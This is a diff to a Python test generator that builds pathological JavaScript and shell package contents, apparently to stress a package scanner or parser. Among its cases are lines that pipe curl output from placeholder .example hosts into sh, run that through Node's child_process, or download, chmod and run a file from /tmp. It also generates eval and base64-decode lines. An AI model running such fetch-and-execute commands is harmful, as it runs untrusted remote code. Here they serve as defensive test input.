@@ -119,13 +119,120 @@ SHAPES = {
 }
 
 
+def js(make):
+    """One index.js, or what make gives as files."""
+    return lambda n: ("npm", make(n) if isinstance(make(64), list) else [("index.js", make(n))])
+
+
+def sh(make):
+    return lambda n: [("setup.sh", "#!/bin/sh\n" + make(n))]
+
+
+def repeat(text):
+    """A text and its end, as often as it fits, one in the other."""
+    return lambda n: text[0] * (n // len(text[0] + text[1])) + text[1] * (n // len(text[0] + text[1]))
+
+
+def js_depth(before, after, depth):
+    return lambda n: (before * depth + after * depth + ";\n") * (n // ((len(before) + len(after)) * depth + 2))
+
+
+def switch(n):
+    return "function f(x){switch(x){" + lines(n, lambda i: f"case {i}:return g{i}(x);") + "}}f(y)\n"
+
+
+def string_table(n):
+    """What obfuscators make: a table of texts, and a function that looks them up."""
+    k = count(n, lambda i: f"'text{i}',g(0x{i:x},'a{i}');")
+    return ("var t=[" + ",".join(f"'text{i}'" for i in range(k)) + "];function g(i){return t[i-0x10]}"
+            + "".join(f"g(0x{i + 16:x},'a{i}');" for i in range(k)))
+
+
+def webpack(n):
+    return "(()=>{var m={" + lines(n, lambda i: f"{i}:(e,t,r)=>{{var n=r({i + 1});t.a=n.b;e.exports=n(t)}},") + "};function r(i){var e={exports:{}};m[i](e,e.exports,r);return e.exports}r(0)})();"
+
+
+def wide_function(n):
+    k = n // 16
+    return "function f(" + ",".join(f"p{i}" for i in range(k)) + "){}\n" + "g(f);\n" * (n // 12)
+
+
+JAVASCRIPT = {
+    "js: statements on one line": lambda n: "a.b(c)+d[e](f);" * (n // 15),
+    "js: closures in closures": js_depth("(function(a){return ", "})(b)", 200),
+    "js: callbacks in callbacks": js_depth("f(a,function(e,d){g(d);", "})", 100),
+    "js: functions never closed": repeat(("function f(){", "")),
+    "js: brackets never closed": lambda n: "([{" * (n // 3),
+    "js: arrows in arrows": lambda n: lines(n, lambda i: "a=>" * 300 + "a;\n"),
+    "js: maybe arrows": lambda n: lines(n, lambda i: "(a=" * 60 + "b" + ")" * 60 + ";\n"),
+    "js: regular expressions or not": lambda n: "a/b/c;(d)/e/f;\n" * (n // 15),
+    "js: slashes": lambda n: "/" + "[/" * (n // 2),
+    "js: choices in choices": lambda n: lines(n, lambda i: "a?b:" * 300 + "c;\n"),
+    "js: templates in templates": js_depth("`a${", "}b`", 200),
+    "js: template of many holes": lambda n: "x=`" + "${a}b" * (n // 5) + "`;",
+    "js: sum of texts": lambda n: "x='ab'" + "+'ab'" * (n // 5) + ";",
+    "js: commas": lambda n: "a" + ",b=c" * (n // 4) + ";",
+    "js: long chain of members": lambda n: "a" + ".b" * (n // 2) + ";",
+    "js: long chain of calls": lambda n: "a" + ".b()" * (n // 4) + ";",
+    "js: promise chain": lambda n: "fetch(u)" + ".then(r=>r.json())" * (n // 18) + ";",
+    "js: promises": lambda n: lines(n, lambda i: f"new Promise((a,b)=>f{i}(a)).then(x=>g(x),y=>h(y));\n"),
+    "js: functions handed over": lambda n: lines(n, lambda i: f"function f{i}(x){{return x}}g(f{i});\n"),
+    "js: one function handed over": lambda n: "function f(x){x()}\n" + "g(f);\n" * (n // 6),
+    "js: many parameters handed over": wide_function,
+    "js: functions handed on": lambda n: lines(n, lambda i: f"function f{i}(c){{f{i + 1}(function(e){{c(e)}})}}\n"),
+    "js: object literal": lambda n: "x={" + lines(n, lambda i: f"k{i}:{i},") + "};f(x);x.k1;",
+    "js: object of functions": lambda n: "x={" + lines(n, lambda i: f"k{i}(a){{return this.k{i + 1}(a)}},") + "};x.k1();",
+    "js: options": lambda n: lines(n, lambda i: f"f({{a:{i},b:'x',c:[d],e:{{f:g}}}});\n"),
+    "js: options again": lambda n: "o={" + ",".join(f"k{i}:1" for i in range(1000)) + "};" + "f(o);" * (n // 5),
+    "js: array literal": lambda n: "x=[" + lines(n, lambda i: f"{i},") + "];f(x);x[1];",
+    "js: table of texts": string_table,
+    "js: switch": switch,
+    "js: modules of webpack": webpack,
+    "js: branches that set one name": lambda n: lines(n, lambda i: f"if(c{i % 9})x={i};else x=f({i});\n"),
+    "js: var in blocks": lambda n: lines(n, lambda i: f"{{let a{i}=1;var b{i}=a{i}}}\n"),
+    "js: loops in loops": lambda n: lines(n, lambda i: "for(const i of x)" * 40 + "y=y+i;\n"),
+    "js: destructuring": lambda n: lines(n, lambda i: f"const {{a{i},b:{{c{i}=d}},...e{i}}}=f();\n"),
+    "js: classes": lambda n: lines(n, lambda i: f"class C{i} extends C{i - 1 if i else 'x'}{{m{i}(){{return super.m{i - 1 if i else 0}()}}}}\n"),
+    "js: imports": lambda n: lines(n, lambda i: f"import {{a as b{i}}} from './m{i}';b{i}();\n"),
+    "js: one import, many uses": lambda n: "const m=require('./a/b/c/d');\n" + lines(n, lambda i: f"m.f{i}();\n"),
+    "js: exports": lambda n: lines(n, lambda i: f"exports.a{i}=function(){{return exports.a{i + 1}()}};\n"),
+    "js: commands": lambda n: "const c=require('child_process');\n" + lines(n, lambda i: f"c.exec('curl http://a{i}.example/x | sh');\n"),
+    "js: executed texts": lambda n: lines(n, lambda i: f"eval('x={i}');\n"),
+    "js: pipes": lambda n: "const fs=require('fs');\n" + lines(n, lambda i: f"fs.createReadStream('/a{i}').pipe(b{i});\n"),
+    "js: decoded texts": lambda n: lines(n, lambda i: "x=Buffer.from('YWJj','base64').toString();y=atob('YWJj');\n"),
+    "js: tiny files": lambda n: [(f"m{i}.js", f"require('./m{i + 1}').f(x{i})\n") for i in range(count(n, lambda i: f"require('./m{i}').f(x{i})\n"))],
+    "js: files that hand on": lambda n: [(f"m{i}.js", f"export*from'./m{i + 1}';\n") for i in range(count(n, lambda i: f"export*from'./m{i}';\n"))],
+}
+SHELL = {
+    "sh: commands": lambda n: lines(n, lambda i: f"curl -s http://a{i}.example/x | sh\n"),
+    "sh: words": lambda n: "echo" + " a$b" * (n // 4) + "\n",
+    "sh: substitutions in substitutions": lambda n: lines(n, lambda i: "$(a " * 60 + ")" * 60 + "\n"),
+    "sh: never closed": lambda n: "$(a \"" * (n // 5),
+    "sh: blocks": lambda n: lines(n, lambda i: "if a; then " * 60 + "b; " + "fi; " * 60 + "\n"),
+    "sh: here documents": lambda n: lines(n, lambda i: f"cat <<E{i}\n$a b\nE{i}\n"),
+    "sh: here documents on one line": lambda n: "cat" + "".join(f" <<E{i}" for i in range(n // 20)) + "\n" + "".join(f"a\nE{i}\n" for i in range(n // 20)),
+    "sh: variables": lambda n: lines(n, lambda i: f"a{i}=$a{i - 1 if i else 0}x\n"),
+    "sh: text built": lambda n: "a=\n" + "a=$a'b'\n" * (n // 8),
+    "sh: functions": lambda n: lines(n, lambda i: f"f{i}() {{ f{i + 1} $1; }}\n"),
+    "sh: texts run": lambda n: lines(n, lambda i: f"sh -c 'eval \"echo {i}\"'\n"),
+    "sh: one pipe": lambda n: "a" + " | b" * (n // 4) + "\n",
+    "sh: case": lambda n: "case $x in\n" + lines(n, lambda i: f"a{i}) b{i};;\n") + "esac\n",
+    "sh: files written and run": lambda n: lines(n, lambda i: f"curl -o /tmp/{i} http://a.example/{i}; chmod +x /tmp/{i}; /tmp/{i}\n"),
+}
+SHAPES.update({k: js(v) for k, v in JAVASCRIPT.items()})
+SHAPES.update({k: sh(v) for k, v in SHELL.items()})
+
+
 def artifact(folder, name, content):
+    npm = isinstance(content, tuple)
+    content = content[1] if npm else content
     files = content if isinstance(content, list) else [("pkg/__init__.py", content)]
     path = Path(folder) / (name + ".tar")
+    about = ("package.json", '{"name":"pkg","version":"1.0.0","main":"index.js"}') if npm else ("PKG-INFO", "Metadata-Version: 2.1\nName: pkg\nVersion: 1\n")
     with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT) as t:
-        for member, text in [("PKG-INFO", "Metadata-Version: 2.1\nName: pkg\nVersion: 1\n"), *files]:
+        for member, text in [about, *files]:
             data = text.encode()
-            info = tarfile.TarInfo("pkg-1/" + member)
+            info = tarfile.TarInfo(("package/" if npm else "pkg-1/") + member)
             info.size = len(data)
             t.addfile(info, io.BytesIO(data))
     return path
